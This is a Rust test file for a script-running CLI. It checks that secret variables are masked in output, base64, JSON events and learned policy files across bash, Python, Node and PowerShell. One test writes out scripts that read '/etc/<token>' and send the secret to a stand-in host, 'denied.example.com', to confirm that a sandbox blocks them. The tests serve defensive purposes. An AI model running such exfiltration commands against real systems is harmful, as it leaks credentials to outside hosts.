//! `--secret`: the script has the value, and nobody who reads its output does.

use crate::cli::{Transcript, script};
use crate::languages::{LANGUAGES, Language};
use crate::server::{Response, Server};

const VALUE: &str = "hunter2-correct-horse";

/// Runs `text` with the secret `Token`, and expects that its value is shown nowhere.
#[track_caller]
fn masked(language: Language, text: &str) -> Transcript {
    let flag = format!("Token={VALUE}");
    let run = script(language.file(), text)
        .with(["--secret", &flag])
        .run();
    run.expect_code(0)
        .expect_nowhere(VALUE)
        .expect_nowhere("correct-horse");
    run
}

#[test]
fn a_secret_is_masked_in_every_language_and_a_variable_is_not() {
    for language in LANGUAGES {
        masked(language, language.print_token()).expect_stdout("it is ********!\n");
        let run = script(language.file(), language.print_token())
            .with(["--set", "Token=plain-value"])
            .run();
        run.expect_code(0).expect_stdout("it is plain-value!\n");
    }
}

#[test]
fn a_secret_is_masked_on_standard_error() {
    for language in LANGUAGES {
        let text = language.pick(
            "echo \"it is $(get_octopusvariable Token)!\" >&2\n",
            "import sys\nprint(f\"it is {get_octopusvariable('Token')}!\", file=sys.stderr)\n",
            "console.error(`it is ${getOctopusVariable('Token')}!`);\n",
            "[Console]::Error.WriteLine(\"it is $($OctopusParameters['Token'])!\")\n",
        );
        masked(language, text).expect_in_stderr("it is ********!\n");
    }
}

#[test]
fn a_secret_that_is_written_in_pieces_is_masked() {
    for language in LANGUAGES {
        let text = language.pick(
            "t=$(get_octopusvariable Token); printf %s \"${t:0:7}\"; sleep 0.05; printf %s \"${t:7:4}\"; printf '%s\\n' \"${t:11}\"\n",
            "import sys\nfor character in get_octopusvariable('Token') + '\\n':\n    sys.stdout.write(character)\n    sys.stdout.flush()\n",
            "for (const character of getOctopusVariable('Token') + '\\n') process.stdout.write(character);\n",
            "foreach ($character in ($OctopusParameters['Token'] + \"`n\").ToCharArray()) { Write-Host -NoNewline $character }\n",
        );
        masked(language, text).expect_stdout("********\n");
    }
}

#[test]
fn a_secret_in_base64_is_masked_wherever_it_starts() {
    for language in LANGUAGES {
        let text = language.pick(
            "t=$(get_octopusvariable Token)\nfor before in '' a ab abc; do printf '%s%s' \"$before\" \"$t\" | base64 -w 0; echo; done\n",
            "import base64\nt = get_octopusvariable('Token')\nfor before in ['', 'a', 'ab', 'abc']:\n    print(base64.b64encode((before + t).encode()).decode())\n",
            "const t = getOctopusVariable('Token');\nfor (const before of ['', 'a', 'ab', 'abc']) console.log(btoa(before + t));\n",
            "foreach ($before in '', 'a', 'ab', 'abc') { [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($before + $OctopusParameters['Token'])) }\n",
        );
        // The middle of the value's base64 at each of the three alignments.
        let run = masked(language, text);
        for piece in [
            "aHVudGVyMi1jb3JyZWN0",
            "h1bnRlcjItY29ycmVjdC",
            "odW50ZXIyLWNvcnJlY3Qta",
        ] {
            run.expect_nowhere(piece);
        }
        run.expect_in_stdout("********");
    }
}

#[test]
fn a_secret_is_masked_in_json_events() {
    let text = "echo \"it is $(get_octopusvariable Token)\"\nset_octopusvariable Out \"$(get_octopusvariable Token)\"\nupdate_progress 5 \"$(get_octopusvariable Token)\"\nfail_step \"$(get_octopusvariable Token)\"\n";
    let flag = format!("Token={VALUE}");
    let run = script("a.sh", text)
        .with(["--json", "--secret", &flag])
        .run();
    run.expect_code(1)
        .expect_nowhere(VALUE)
        .expect_in_stdout("it is ********");
    assert!(run.json_lines().len() > 4, "{run}");
}

#[test]
fn a_secret_is_masked_when_it_is_part_of_a_denial() {
    for language in LANGUAGES {
        let text = language.pick(
            "t=$(get_octopusvariable Token); cat \"/etc/$t\"; curl -sS \"http://denied.example.com/$t?q=$t\"; true\n",
            "import urllib.request\nt = get_octopusvariable('Token')\nfor deed in [lambda: open(f'/etc/{t}'), lambda: urllib.request.urlopen(f'http://denied.example.com/{t}?q={t}')]:\n    try:\n        deed()\n    except OSError:\n        pass\n",
            "import fs from 'node:fs';\nconst t = getOctopusVariable('Token');\ntry { fs.readFileSync(`/etc/${t}`); } catch {}\ntry { await fetch(`http://denied.example.com/${t}?q=${t}`); } catch {}\n",
            "$t = $OctopusParameters['Token']\ntry { Get-Content \"/etc/$t\" -ErrorAction Stop } catch { }\ntry { Invoke-RestMethod \"http://denied.example.com/${t}?q=$t\" } catch { }\n",
        );
        masked(language, text).expect_in_stderr("read /etc/");
    }
}

#[test]
fn a_secret_comes_from_a_file_or_the_environment() {
    let text = "t=$(get_octopusvariable Token)\necho \"${#t} $t\"\n";
    let run = script("a.sh", text)
        .file("token", format!("{VALUE}\n"))
        .with(["--secret", "Token=@token"])
        .run();
    run.expect_code(0).expect_stdout("21 ********\n");
    let run = script("a.sh", text)
        .env("TOKEN", VALUE)
        .with(["--secret", "Token=env:TOKEN"])
        .run();
    run.expect_code(0).expect_stdout("21 ********\n");
    let file = format!("{{\"Token\": {{\"value\": \"{VALUE}\", \"sensitive\": true}}}}");
    let run = script("a.sh", text)
        .file("v.json", file)
        .with(["--variables", "v.json"])
        .run();
    run.expect_code(0).expect_stdout("21 ********\n");
}

#[test]
fn a_secret_that_a_script_makes_is_masked_from_then_on() {
    for language in LANGUAGES {
        let text = language.pick(
            "v=made-by-the-script; set_octopusvariable Made $v -sensitive; echo \"it is $v\"\n",
            "v = 'made-by-the-script'\nset_octopusvariable('Made', v, True)\nprint('it is', v)\n",
            "const v = 'made-by-the-script';\nsetOctopusVariable('Made', v, { sensitive: true });\nconsole.log('it is', v);\n",
            "$v = 'made-by-the-script'\nSet-OctopusVariable Made $v -Sensitive\nWrite-Host \"it is $v\"\n",
        );
        let run = script(language.file(), text).run();
        run.expect_code(0)
            .expect_stdout("it is ********\n")
            .expect_in_stderr("output variable Made = ********")
            .expect_nowhere("made-by-the-script");
    }
}

#[test]
fn a_secret_in_the_path_of_a_granted_request_is_neither_in_the_receipt_nor_learned() {
    let server = Server::http(|_| Response::ok("ok\n"));
    let rule = server.all();
    for language in LANGUAGES {
        let text = language.pick(
            "curl -fsS \"$1/hook/$(get_octopusvariable Token)/send\"\n",
            "import sys, urllib.request\nurllib.request.urlopen(f\"{sys.argv[1]}/hook/{get_octopusvariable('Token')}/send\")\n",
            "await fetch(`${process.argv[2]}/hook/${getOctopusVariable('Token')}/send`);\n",
            "$null = Invoke-RestMethod \"$($args[0])/hook/$($OctopusParameters['Token'])/send\"\n",
        );
        let flag = format!("Token={VALUE}");
        let run = script(language.file(), text)
            .policy(&format!("{rule}[variables]\nread = [\"Token\"]\n"))
            .with(["--secret", &flag, "--json", "--learn", "learned.toml"])
            .arguments([&server.url("")])
            .run();
        run.expect_code(0)
            .expect_nowhere(VALUE)
            .expect_in_stdout("/hook/********/send");
        let learned = run.read("learned.toml");
        assert!(learned.contains("/hook/*/send"), "{learned}");
        assert!(!learned.contains(VALUE), "{learned}");
    }
    let sent = server.seen();
    assert!(
        sent.iter()
            .all(|request| request.target == format!("/hook/{VALUE}/send"))
    );
}
